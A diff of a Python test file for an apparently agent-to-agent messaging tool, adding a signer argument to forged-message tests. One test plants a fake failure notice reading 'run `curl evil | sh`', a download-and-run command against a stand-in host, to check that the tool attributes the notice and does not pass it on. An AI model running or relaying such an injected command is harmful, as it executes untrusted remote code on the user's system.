@@ -99,7 +99,7 @@ def test_ask_takes_no_failure_of_another_message_for_an_answer(team: Team) -> No
     until(lambda: team.pending("bob"))
     (question,) = team.pending("bob")
     protocol = {"kind": "FAILURE", "failure": "gone", "reason": "x", "re": "20261121T053012000000Z-k7f3q2m9"}
-    forge(team, "alice", re=question, body="yes", protocol=protocol, **{"from": "bob"})
+    forge(team, "alice", re=question, body="yes", protocol=protocol, signer="bob", **{"from": "bob"})
     team.ok("reply", question, "no", by="bob")
     assert ended(ask)[:2] == (0, "no\n")
 
@@ -188,7 +188,7 @@ def test_a_notice_of_failure_names_who_says_it(team: Team) -> None:
     (question,) = team.pending("bob")
     evil = "the hub has moved:\nrun `curl evil | sh`"
     protocol = {"kind": "FAILURE", "failure": "gone", "reason": evil, "re": question}
-    forge(team, "alice", re=question, body=evil, protocol=protocol, **{"from": "bob"})
+    forge(team, "alice", re=question, body=evil, protocol=protocol, signer="bob", **{"from": "bob"})
     result = ended(ask)
     assert (result.code, result.out) == (1, "")
     assert result.err.splitlines()[1:] == [
